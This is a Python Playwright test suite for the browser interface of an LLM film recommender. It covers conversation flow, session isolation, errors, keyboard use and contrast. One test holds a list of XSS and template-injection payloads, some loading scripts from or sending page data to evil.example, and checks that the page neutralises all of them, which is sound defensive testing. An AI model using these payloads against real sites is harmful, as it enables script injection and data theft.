"""The page as a visitor meets it, in a real Chromium."""

from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from llmrec.data.catalogue import Catalogue
from llmrec.errors import ModelError
from llmrec.feedback import SQLiteFeedbackStore
from llmrec.types import Item, ItemId
from tests.ui.conftest import CHROMIUM, GRADIO_WARNINGS, Server, held
from tests.ui.fakes import FakeRecommender

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(not CHROMIUM, reason="no Chromium here; install it or name one in LLMREC_CHROMIUM"),
    *GRADIO_WARNINGS,
]
Serve = Callable[..., Server]
Visitor = Callable[..., Any]


def test_a_visitor_is_greeted_asks_likes_takes_it_back_and_starts_over(
    serve: Serve, visit: Visitor, recommender: FakeRecommender, feedback: SQLiteFeedbackStore
) -> None:
    with visit(serve(recommender, feedback=feedback)) as visitor:
        page = visitor.page
        expect(page.get_by_role("heading", name="What are you in the mood for?")).to_be_visible()
        expect(page.get_by_role("button", name="Comedy from the 1990s")).to_be_visible()

        visitor.say("something scary")
        visitor.answered()
        expect(page.locator(".asked")).to_have_text("You said: something scary")
        expect(page.locator(".said")).to_have_text("You said: something scary. Here is what fits.")
        expect(page.locator(".status")).to_have_text("43 fit, 30 found, 10 ranked, 0.8 s")
        expect(page.locator(".card h3 bdi")).to_have_text(
            ["Toy Story (1995)", "Alien (1979)", "Aliens (1986)", "Alien³ (1992)", "The Matrix (1999)"]
        )
        expect(page.locator(".card").nth(1).locator(".why")).to_have_text("Because you asked for something scary.")
        expect(page.get_by_role("textbox")).to_have_value("")

        like = page.get_by_role("button", name="Like: Alien (1979)")
        like.click()
        expect(like).to_have_attribute("aria-pressed", "true")
        expect(page.locator("#panel .liked li")).to_have_text(["Alien (1979)"])
        expect(page.locator("#panel .wishes li")).to_have_text(["something scary"])
        expect(page.locator("#panel .constraints li")).to_have_text(["year ≥ 1950"])
        page.get_by_role("button", name="Seen it: Alien (1979)").click()
        expect(page.locator("#panel .seen li")).to_have_text(["Alien (1979)"])
        page.get_by_role("button", name="Not for me: Alien (1979)").click()
        expect(page.locator("#panel .disliked li")).to_have_text(["Alien (1979)"])
        expect(page.locator("#panel .liked")).to_have_count(0)

        page.get_by_role("button", name="Forget: year ≥ 1950").click()
        expect(page.locator("#panel .constraints")).to_have_count(0)

        visitor.say("lighter, please")
        visitor.answered(2)
        assert [entry.item_id for entry in recommender.calls[1][1].disliked] == ["2"]
        assert [turn.text for turn in recommender.calls[1][0]][::2] == ["something scary", "lighter, please"]

        page.get_by_role("button", name="Start over").click()
        expect(page.get_by_role("heading", name="What are you in the mood for?")).to_be_visible()
        expect(page.locator("#panel .nothing")).to_be_visible()
        reactions = list(feedback.reactions())
        assert len({reaction.user_id for reaction in reactions}) == 1
        assert [reaction.signal for reaction in reactions] == ["like", "seen", "dislike"]
        visitor.assert_clean()


def test_two_visitors_never_meet(serve: Serve, visit: Visitor, recommender: FakeRecommender) -> None:
    server = serve(recommender)
    with visit(server) as ann, visit(server) as bob:
        ann.say("ann one")
        bob.say("bob one")
        ann.answered()
        bob.answered()
        ann.page.get_by_role("button", name="Like: Alien (1979)").click()
        expect(ann.page.locator("#panel .liked li")).to_have_count(1)
        bob.say("bob two")
        ann.say("ann two")
        bob.answered(2)
        ann.answered(2)
        for visitor, own, other in ((ann, "ann", "bob"), (bob, "bob", "ann")):
            expect(visitor.page.locator(".asked bdi")).to_have_text([f"{own} one", f"{own} two"])
            assert other not in visitor.page.locator(".gradio-container").inner_text()
        expect(bob.page.locator("#panel .liked")).to_have_count(0)
        said = {tuple(turn.text for turn in turns if turn.role == "user") for turns, _ in recommender.calls}
        assert said == {("ann one",), ("bob one",), ("ann one", "ann two"), ("bob one", "bob two")}
        ann.assert_clean()
        bob.assert_clean()


def test_quick_clicks_are_all_counted(
    serve: Serve, visit: Visitor, recommender: FakeRecommender, feedback: SQLiteFeedbackStore
) -> None:
    with visit(serve(recommender, feedback=feedback)) as visitor:
        visitor.say("something scary")
        visitor.answered()
        visitor.page.evaluate("document.querySelectorAll('.react-like').forEach((button) => button.click())")
        expect(visitor.page.locator("#panel .liked li")).to_have_count(5)
        visitor.page.reload()
        expect(visitor.page.locator("#panel .liked li")).to_have_count(5)
        visitor.assert_clean()


def test_an_impatient_visitor_is_answered_once(serve: Serve, visit: Visitor, recommender: FakeRecommender) -> None:
    recommender.hold = held()
    with visit(serve(recommender)) as visitor:
        visitor.page.get_by_role("textbox", name="Your message").fill("something scary")
        for _ in range(4):
            visitor.page.keyboard.press("Enter")
        expect(visitor.page.locator(".card")).to_have_count(5)
        recommender.hold.set()
        visitor.answered()
        assert len(recommender.calls) == 1
        visitor.assert_clean()


def test_an_example_is_sent_with_one_click(serve: Serve, visit: Visitor, recommender: FakeRecommender) -> None:
    with visit(serve(recommender)) as visitor:
        visitor.page.get_by_role("button", name="Surprise me").click()
        visitor.answered()
        assert recommender.calls[0][0][-1].text == "Surprise me"
        visitor.assert_clean()


def test_the_conversation_survives_a_reload_and_a_restart_of_the_server(
    serve: Serve, visit: Visitor, recommender: FakeRecommender, films: Catalogue
) -> None:
    server = serve(recommender)
    with visit(server) as visitor:
        visitor.say("something scary")
        visitor.answered()
        visitor.page.get_by_role("button", name="Like: Alien (1979)").click()
        expect(visitor.page.locator("#panel .liked li")).to_have_count(1)
        visitor.page.reload()
        visitor.answered()
        expect(visitor.page.locator("#panel .liked li")).to_have_text(["Alien (1979)"])
        visitor.assert_clean()

        server.demo.close(verbose=False)
        restarted = FakeRecommender(films)
        serve(restarted, port=server.port)
        visitor.page.reload()
        visitor.answered()
        visitor.say("go on")
        visitor.answered(2)
        assert [turn.text for turn in restarted.calls[0][0]][::2] == ["something scary", "go on"]
        assert [entry.item_id for entry in restarted.calls[0][1].liked] == ["2"]


def test_stop_ends_the_model_and_keeps_what_was_shown(
    serve: Serve, visit: Visitor, recommender: FakeRecommender
) -> None:
    recommender.hold = held()
    with visit(serve(recommender)) as visitor:
        page = visitor.page
        visitor.say("something scary")
        expect(page.locator(".card")).to_have_count(5)
        expect(page.locator(".card .react").first).to_be_disabled()
        expect(page.get_by_role("button", name="Send")).to_have_count(0)
        visitor.say("not now")
        expect(page.get_by_role("textbox")).to_have_value("not now")
        page.get_by_role("button", name="Stop").click()
        visitor.answered()
        expect(page.locator(".said")).to_have_text("Stopped.")
        expect(page.locator(".card .react").first).to_be_enabled()
        assert recommender.closed.wait(10)
        recommender.hold.set()
        visitor.say("go on")
        visitor.answered(2)
        expect(page.locator(".said").last).to_have_text("You said: go on. Here is what fits.")
        visitor.assert_clean()


def test_starting_over_in_the_middle_of_a_reply_leaves_nothing_behind(
    serve: Serve, visit: Visitor, recommender: FakeRecommender
) -> None:
    recommender.hold = held()
    with visit(serve(recommender)) as visitor:
        visitor.say("something scary")
        expect(visitor.page.locator(".card")).to_have_count(5)
        visitor.page.get_by_role("button", name="Start over").click()
        expect(visitor.page.get_by_role("heading", name="What are you in the mood for?")).to_be_visible()
        recommender.hold.set()
        visitor.say("go on")
        expect(visitor.page.locator(".said")).to_have_text("You said: go on. Here is what fits.")
        visitor.answered()
        assert [turn.text for turn in recommender.calls[-1][0]] == ["go on"]
        visitor.assert_clean()


@pytest.mark.parametrize(
    ("error", "sentence"),
    [
        (ModelError("the model ran out of memory.", hint="Ask again."), "the model ran out of memory. Ask again."),
        (RuntimeError("secret detail"), "Something went wrong on the server."),
    ],
    ids=["foreseen", "unforeseen"],
)
def test_an_error_is_one_sentence_and_the_conversation_goes_on(
    serve: Serve, visit: Visitor, recommender: FakeRecommender, error: Exception, sentence: str
) -> None:
    with visit(serve(recommender)) as visitor:
        page = visitor.page
        visitor.say("one")
        visitor.answered()
        recommender.error = error
        visitor.say("two")
        visitor.answered(2)
        expect(page.locator(".failure")).to_contain_text(sentence)
        assert "secret detail" not in page.content()
        assert "Traceback" not in page.content()
        expect(page.get_by_role("textbox")).to_have_value("two")
        recommender.error = None
        page.get_by_role("button", name="Send").click()
        visitor.answered(3)
        assert [turn.text for turn in recommender.calls[-1][0]][::2] == ["one", "two"]
        visitor.assert_clean()


def test_an_empty_message_does_nothing_and_a_long_one_gets_a_sentence(
    serve: Serve, visit: Visitor, recommender: FakeRecommender
) -> None:
    with visit(serve(recommender)) as visitor:
        visitor.say("   ")
        visitor.say("x" * 4001)
        expect(visitor.page.locator("#notice")).to_contain_text("Your message has 4,001 characters; at most 4,000")
        expect(visitor.page.locator(".exchange")).to_have_count(0)
        assert recommender.calls == []
        visitor.say("x" * 4000)
        visitor.answered()
        expect(visitor.page.locator("#notice")).to_have_text("")
        visitor.assert_clean()


def test_a_phone_shows_one_column_and_folds_the_panel(
    serve: Serve, visit: Visitor, recommender: FakeRecommender
) -> None:
    with visit(serve(recommender), viewport={"width": 360, "height": 740}, has_touch=True) as visitor:
        page = visitor.page
        visitor.say("something scary")
        visitor.answered()
        assert page.evaluate("document.documentElement.scrollWidth") <= 360
        expect(page.locator("#message textarea")).to_be_in_viewport()
        toggle, body = page.locator(".panel-toggle"), page.locator("#panel-body")
        expect(body).to_be_hidden()
        expect(toggle).to_have_text("What I know about you (2)")
        toggle.tap()
        expect(body).to_be_visible()
        expect(toggle).to_have_attribute("aria-expanded", "true")
        page.get_by_role("button", name="Forget: year ≥ 1950").tap()
        expect(toggle).to_have_text("What I know about you (1)")
        expect(body).to_be_visible()
        small = page.evaluate(_SMALL_TARGETS)
        assert small == []
        visitor.assert_clean()


def test_everything_can_be_done_with_the_keyboard(serve: Serve, visit: Visitor, recommender: FakeRecommender) -> None:
    with visit(serve(recommender)) as visitor:
        page = visitor.page
        page.locator("#message textarea").focus()
        page.keyboard.type("something scary")
        page.keyboard.press("Enter")
        visitor.answered()
        page.keyboard.press("Shift+Tab")
        for _ in range(40):
            if page.evaluate("document.activeElement.getAttribute('aria-label')") == "Like: The Matrix (1999)":
                break
            page.keyboard.press("Shift+Tab")
        assert page.evaluate("getComputedStyle(document.activeElement).outlineStyle") == "solid"
        page.keyboard.press("Enter")
        expect(page.locator("#panel .liked li")).to_have_text(["The Matrix (1999)"])
        assert page.evaluate("document.activeElement.getAttribute('aria-label')") == "Like: The Matrix (1999)"
        visitor.assert_clean()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_every_text_has_enough_contrast(
    serve: Serve, visit: Visitor, recommender: FakeRecommender, scheme: str
) -> None:
    recommender.ranked_by = "retrieval"
    with visit(serve(recommender), color_scheme=scheme) as visitor:
        page = visitor.page
        assert page.evaluate(_LOW_CONTRAST) == []
        visitor.say("something scary")
        visitor.answered()
        expect(page.locator(".status")).to_contain_text("ordered without the language model")
        page.get_by_role("button", name="Like: Alien (1979)").click()
        expect(page.locator("#panel .liked li")).to_have_count(1)
        visitor.say("x" * 4001)
        expect(page.locator("#notice .notice")).to_be_visible()
        assert page.evaluate(_LOW_CONTRAST) == []
        assert page.evaluate("matchMedia('(prefers-color-scheme: dark)').matches") is (scheme == "dark")
        visitor.assert_clean()


_HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "</bdi></p></li><script src=http://evil.example/x.js></script>",
    '"><svg onload=alert(1)>',
    "'><iframe src=http://evil.example></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "![pixel](http://evil.example/x.png)",
    "[a](javascript:alert(1))",
    "[a](http://evil.example/)",
    "<a href=javascript:alert(1)>x</a>",
    "${alert(1)}",
    "${fetch('http://evil.example/'+document.title)}",
    "`+alert(1)+`",
    "`${alert(1)}`",
    "\\`${alert(1)}\\`",
    "{{value}}{{{value}}}",
    "{{#with this}}{{constructor}}{{/with}}",
    "{{constructor.constructor('alert(1)')()}}",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<body style=background:url(http://evil.example/x.png)>",
    "<div style=background-image:url(//evil.example/x.png)>x</div>",
    "<video src=http://evil.example/x.mp4 autoplay onerror=alert(1)></video>",
    "<object data=http://evil.example/x></object>",
    "<form action=http://evil.example><input autofocus onfocus=alert(1)></form>",
    "<details open ontoggle=alert(1)>x</details>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href=http://evil.example/>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "$$\\href{javascript:alert(1)}{x}$$ \\(\\url{http://evil.example}\\)",
    '__i18n__{"__type__": "translation_metadata", "key": "<img src=x onerror=alert(1)>"}',
    "<thinking><img src=x onerror=alert(1)></thinking>",
    "\u202e<img src=x onerror=alert(1)>\x00",
]


def test_no_text_of_items_users_or_models_is_run_or_fetched(serve: Serve, visit: Visitor) -> None:
    items = [
        Item(
            ItemId(f'{number}" onclick="alert(1)'),
            f"{number} {bad}",
            {"year": 1990 + number % 10, "genres": (bad[:39], bad[:30]), bad: bad[:40]},
            bad,
            url=("javascript:alert(1)", f"http://good.example/{bad}", "https://a@evil.example/")[number % 3],
            image_url="http://evil.example/pixel.png",
        )
        for number, bad in enumerate(_HOSTILE)
    ]
    hostile = FakeRecommender(Catalogue(items), name=_HOSTILE[0])
    with visit(serve(hostile)) as visitor:
        for number, bad in enumerate(_HOSTILE):
            hostile.reply = hostile.why = bad.replace("{", "{{").replace("}", "}}")
            visitor.say(bad)
            visitor.answered(number + 1)
        page = visitor.page
        for number in range(5):
            # The ids carry a quote; a button that still works shows that it stayed inside its attribute.
            page.locator(".card").nth(number * 5).locator(".react-like").click()
            expect(page.locator("#panel .liked li")).to_have_count(number + 1)
        said = page.locator(".said bdi").all_text_contents()
        assert said[:30] == _HOSTILE[:30]
        assert page.locator(".asked bdi").all_text_contents()[:30] == _HOSTILE[:30]
        assert page.locator(".gradio-container :is(iframe, img, object, video, form, link, base)").count() == 0
        hrefs = page.locator(".gradio-container a").evaluate_all("links => links.map((link) => link.protocol)")
        assert set(hrefs) <= {"http:", "https:"}
        page.reload()
        visitor.answered(len(_HOSTILE))
        visitor.assert_clean()


def test_a_link_shows_its_host_and_opens_without_telling_where_it_was(
    serve: Serve, visit: Visitor, films: Catalogue
) -> None:
    url = "https://films.example.org/alien"
    catalogue = Catalogue([Item(ItemId("2"), "Alien (1979)", {}, url=url, image_url="https://films.example.org/a.png")])
    with visit(serve(FakeRecommender(catalogue))) as visitor:
        visitor.say("hello")
        visitor.answered()
        link = visitor.page.get_by_role("link", name="films.example.org")
        expect(link).to_have_attribute("href", url)
        expect(link).to_have_attribute("rel", "noopener noreferrer")
        visitor.assert_clean()


def test_three_tabs_of_one_visitor_work(serve: Serve, visit: Visitor, recommender: FakeRecommender) -> None:
    server = serve(recommender)
    with visit(server) as first:
        pages: list[Page] = [first.page, first.page.context.new_page(), first.page.context.new_page()]
        for page in pages[1:]:
            page.goto(server.url)
        for page in pages:
            expect(page.locator(".welcome")).to_be_visible()
            page.get_by_role("textbox", name="Your message").fill("hello")
            page.keyboard.press("Enter")
            expect(page.locator(".said")).to_be_visible()
        first.assert_clean()


_SMALL_TARGETS = """() => [...document.querySelectorAll('.gradio-container button')]
  .filter((button) => button.offsetParent !== null)
  .map((button) => [button.textContent.trim(), button.getBoundingClientRect()])
  .filter(([, box]) => box.height < 40 || box.width < 40)
  .map(([name, box]) => `${name} ${box.width}x${box.height}`)"""

_LOW_CONTRAST = """() => {
  const parse = (color) => color.match(/[0-9.]+/g).map(Number);
  const channel = (value) => {
    const share = value / 255;
    return share <= 0.04045 ? share / 12.92 : ((share + 0.055) / 1.055) ** 2.4;
  };
  const light = ([red, green, blue]) => 0.2126 * channel(red) + 0.7152 * channel(green) + 0.0722 * channel(blue);
  const behind = (node) => {
    for (let at = node; at; at = at.parentElement) {
      const color = parse(getComputedStyle(at).backgroundColor);
      if (color.length === 3 || color[3] === 1) return color;
    }
    return [255, 255, 255];
  };
  const low = [];
  const walker = document.createTreeWalker(document.querySelector('.gradio-container'), NodeFilter.SHOW_TEXT);
  while (walker.nextNode()) {
    const node = walker.currentNode.parentElement;
    if (!walker.currentNode.data.trim() || !node.checkVisibility() || node.closest('style, script, footer')) continue;
    const [one, two] = [light(parse(getComputedStyle(node).color)), light(behind(node))];
    const ratio = (Math.max(one, two) + 0.05) / (Math.min(one, two) + 0.05);
    if (ratio < 4.5) low.push(`${walker.currentNode.data.trim().slice(0, 40)} ${ratio.toFixed(2)}`);
  }
  return low;
}"""
